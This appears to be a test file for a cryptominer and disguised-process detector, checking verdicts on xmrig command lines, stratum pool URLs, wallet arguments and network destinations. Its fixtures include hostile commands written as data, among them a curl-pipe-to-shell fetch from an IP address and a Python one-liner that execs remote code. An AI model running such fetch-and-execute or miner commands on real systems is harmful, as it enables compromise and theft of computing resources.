import fc from 'fast-check';
import { beforeAll, expect, test } from 'vitest';
import { judgeDestination } from '../../detection/destination.ts';
import { type Indicators, withExtra } from '../../detection/indicators.ts';
import { loadIndicators } from '../../detection/load.ts';
import { judgeProcess, type ProcessFacts } from '../../detection/process.ts';
import { XMR } from '../corpus/wallets.ts';

let indicators: Indicators;
beforeAll(async () => {
  indicators = withExtra(await loadIndicators(), {
    hashes: ['ab'.repeat(32)],
    addresses: ['203.0.113.5:443'],
  });
});
const judge = (facts: ProcessFacts) => judgeProcess(facts, { indicators });

test.each<[string, ProcessFacts, string]>([
  ['name of the binary', { exe: '/opt/xmrig', argv: ['xmrig'] }, 'exe'],
  ['version behind the name', { exe: '/opt/xmrig-6.21.0/xmrig-6.21.0', argv: ['a'] }, 'exe'],
  ['comm', { exe: '/opt/a', comm: 'xmrig', argv: ['a'] }, 'comm'],
  ['own name', { exe: '/opt/a', argv: ['./xmrig'] }, 'argv[0]'],
  ['pool among the arguments', { exe: '/opt/a', argv: ['a', '-o', 'stratum+ssl://p:1'] }, 'argv[2]'],
  [
    'wallet and pool of a renamed program',
    { exe: '/usr/bin/nginx', argv: ['nginx', '-o', 'p.example:3333', '-u', XMR] },
    'argv[4]',
  ],
  [
    'inert name in argv[0] over another binary',
    { exe: '/opt/a', argv: ['grep', '-o', 'p.example:3333', '-u', XMR] },
    'argv[4]',
  ],
  ['script', { exe: '/bin/dash', argv: ['sh', '-c', 'curl -s http://185.1.2.3/x | sh'] }, 'argv[2]'],
  [
    'variables that env is given',
    {
      exe: '/usr/bin/env',
      argv: ['env', '-i', 'POOL_URL=stratum+tcp://p.example:3333', `POOL_USER=${XMR}`, './web'],
    },
    'argv[2]',
  ],
  ['hash', { exe: '/opt/a', argv: ['a'], sha256: 'ab'.repeat(32) }, 'sha256'],
])('denies by %s', (_, facts, path) => {
  const { verdict, findings } = judge(facts);
  expect(verdict).toBe('deny');
  expect(findings.map((finding) => finding.path)).toContain(path);
});

test.each<[string, ProcessFacts]>([
  ['a web server', { exe: '/usr/sbin/nginx', comm: 'nginx', argv: ['nginx: worker process'] }],
  ['a kernel thread', { exe: '', comm: 'kworker/0:1', argv: [] }],
  ['a search', { exe: '/bin/grep', comm: 'grep', argv: ['grep', '-r', 'stratum+tcp://p:1', '/etc'] }],
  ['minio', { exe: '/usr/bin/minio', comm: 'minio', argv: ['minio', 'server', '/data'] }],
  ['an exporter', { exe: '/usr/bin/xmrig-exporter', comm: 'xmrig-exporter', argv: ['xmrig-exporter'] }],
  [
    'a service with its settings from env',
    { exe: '/usr/bin/env', argv: ['env', 'DB_POOL=10', 'REDIS_URL=redis://cache:6379', 'node', 'server.js'] },
  ],
  ['a login shell', { exe: '/bin/bash', comm: 'bash', argv: ['-bash'] }],
  ['pgrep', { exe: '/usr/bin/pgrep', comm: 'pgrep', argv: ['pgrep', 'xmrig'] }],
])('does not deny %s', (_, facts) => expect(judge(facts).verdict).not.toBe('deny'));

test.each([
  ['curl', ['-o', 'stratum+tcp://p.example:3333', '-u', 'me']],
  ['sleep', ['-o', 'p.example:3333', '-u', XMR, '-p', 'x']],
  ['grep', ['-o', 'stratum+tcp://p.example:3333', '-u', XMR]],
  ['busybox', ['-o', 'stratum+tcp://p.example:3333', '-u', XMR]],
])('what nobody tells %s is judged as of any program, in an image that calls its miner so', (name, argv) => {
  expect(judge({ exe: `/usr/bin/${name}`, argv: [name, ...argv] }).verdict).toBe('deny');
});

test.each([
  ['grep', ['-o', 'stratum+tcp://p.example:3333', 'log']],
  ['grep', ['-rn', '--', '--donate-level', '.']],
  ['sed', ['-i', 's#stratum+tcp://p.example:3333#x#', 'c.json']],
  ['curl', ['-o', 'page', '-u', 'me:x', 'https://p.example:3333/api']],
  ['mysql', ['-h', 'db.example', '-P', '3333', '-u', 'root', '-px']],
  ['ssh', ['-p', '3333', '-o', 'User=x', 'p.example', 'grep -o stratum+tcp://p.example:3333 log']],
])('what people tell %s is no miner: %j', (name, argv) => {
  expect(judge({ exe: `/usr/bin/${name}`, argv: [name, ...argv] }).verdict).not.toBe('deny');
});

test.each<[string, string, string[]]>([
  ['a service', '/tmp/web', ['sshd: root@pts/0']],
  ['a program of the system', '/tmp/web', ['/usr/lib/systemd/systemd-networkd']],
])('what runs from a scratch folder and claims to be %s is disguised', (_, exe, argv) => {
  expect(judge({ exe, argv }).findings.map(({ rule }) => rule)).toContain('disguised-process');
});

test('settings as an argument are read as such, unless a tool is given them as data', () => {
  const settings = JSON.stringify({ pools: [{ url: 'p.example:3333', user: XMR }] });
  expect(judge({ exe: '/opt/web', argv: ['web', settings] }).verdict).toBe('deny');
  expect(judge({ exe: '/opt/web', argv: ['web', `--config=${settings}`] }).verdict).toBe('deny');
  expect(
    judge({ exe: '/usr/bin/curl', argv: ['curl', '-d', settings, 'https://a.example'] }).verdict,
  ).not.toBe('deny');
});

test('a script in a scratch folder, whose interpreter stands in front, is not disguised', () => {
  const { findings } = judge({ exe: '/tmp/job', argv: ['/bin/sh', './job'] });
  expect(findings.map(({ rule }) => rule)).not.toContain('disguised-process');
});

test('no process makes it throw', () => {
  const text = fc.oneof(
    fc.string(),
    fc.constantFrom('-o', '-c', 'sh', '/memfd:x (deleted)', '[kworker]', '--url=', XMR),
  );
  fc.assert(
    fc.property(
      text,
      text,
      fc.array(text, { maxLength: 8 }),
      (exe, comm, argv) => void judge({ exe, comm, argv }),
    ),
    { numRuns: 1000 },
  );
});

test('a port is a hint, a name or an address is proof', () => {
  const rules = (destination: Parameters<typeof judgeDestination>[0]) =>
    judgeDestination(destination, { indicators }).map(({ rule, score }) => [rule, score]);
  expect(rules({ address: '10.0.0.1', port: 4444 })).toEqual([['mining-port', 5]]);
  expect(rules({ address: '10.0.0.1', port: 8080 })).toEqual([]);
  expect(rules({ address: '192.0.2.1', port: 3333, host: 'POOL.supportxmr.com.' })[0]).toEqual([
    'pool-host',
    100,
  ]);
  expect(rules({ address: '203.0.113.5', port: 443 })[0]).toEqual(['pool-address', 100]);
  expect(rules({ address: '203.0.113.5', port: 80 })).toEqual([]);
  expect(rules({ address: '192.0.2.1', port: 443, host: 'notsupportxmr.com' })).toEqual([]);
});

test('knows an interpreter by its versioned name, and a program behind the dynamic loader', () => {
  const rules = (exe: string, argv: string[]) =>
    judgeProcess({ exe, argv }, { indicators }).findings.map(({ rule }) => rule);
  const code = 'import os, urllib.request as r; exec(r.urlopen(os.environ["U"]).read())';
  expect(rules('/usr/local/bin/python3.11', ['python3', '-c', code])).toContain('remote-script');
  const loader = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
  expect(rules(loader, [loader, '--library-path', '/lib', '/tmp/xmrig', '-t', '2'])).toContain('miner-name');
  expect(rules('/lib/ld-musl-x86_64.so.1', ['/lib/ld-musl-x86_64.so.1', '/bin/ls'])).toEqual([]);
});

test('tells a page about a miner from a miner that is fetched', () => {
  const rules = (url: string) =>
    judgeProcess({ exe: '/usr/bin/curl', argv: ['curl', url] }, { indicators }).findings.map(
      ({ rule }) => rule,
    );
  expect(rules('https://example.com/blog/xmrig')).not.toContain('miner-download');
  expect(rules('https://example.com/xmrig.html')).not.toContain('miner-download');
  expect(rules('https://example.com/xmrig')).toContain('miner-download');
});

test.each([
  'stratum+tcp://pool.example:3333x',
  'stratum+tcp://pool.example:+3333',
  `stratum+tcp://pool.example:3333/${'a'.repeat(9000)}`,
  `${' '.repeat(9000)}stratum+tcp://pool.example:3333`,
])(
  'what stands around the address of a pool does not hide it, since miners read on to the port only: %.50s',
  (url) => {
    const { findings } = judge({ exe: '/srv/web', argv: ['web', '-o', url] });
    expect(findings.map(({ rule }) => rule)).toContain('stratum-url');
  },
);
